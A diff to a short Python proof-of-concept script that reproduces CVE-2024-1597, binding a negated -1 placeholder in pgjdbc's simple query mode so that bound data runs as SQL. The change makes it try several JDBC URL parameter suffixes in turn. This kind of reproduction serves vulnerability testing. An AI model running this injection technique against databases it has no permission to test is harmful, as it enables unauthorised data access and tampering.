@@ -1,6 +1,6 @@
 """Binds data that would be SQL in the driver's simple query mode (CVE-2024-1597), and prints the row that comes back.
 
-Argument: the JDBC URL. User and password: PGUSER, PGPASSWORD.
+Arguments: what stands behind JDBC_URL, tried one after another. User and password: PGUSER, PGPASSWORD.
 """
 
 import os
@@ -12,8 +12,8 @@ jvm = SparkSession.builder.master("local[1]").getOrCreate()._jvm
 properties = jvm.java.util.Properties()
 properties.setProperty("user", os.environ["PGUSER"])
 properties.setProperty("password", os.environ["PGPASSWORD"])
-connection = jvm.org.postgresql.Driver().connect(sys.argv[1], properties)
-try:
+for parameters in sys.argv[1:]:
+    connection = jvm.org.postgresql.Driver().connect(os.environ["JDBC_URL"] + parameters, properties)
     # With -1 in its text, the first minus and its own begin a comment, and what follows the line feed is SQL.
     statement = connection.prepareStatement("select -?, ?")
     statement.setInt(1, -1)
@@ -21,5 +21,4 @@ try:
     row = statement.executeQuery()
     row.next()
     print("row:", repr(row.getString(1)), repr(row.getString(2)))
-finally:
     connection.close()
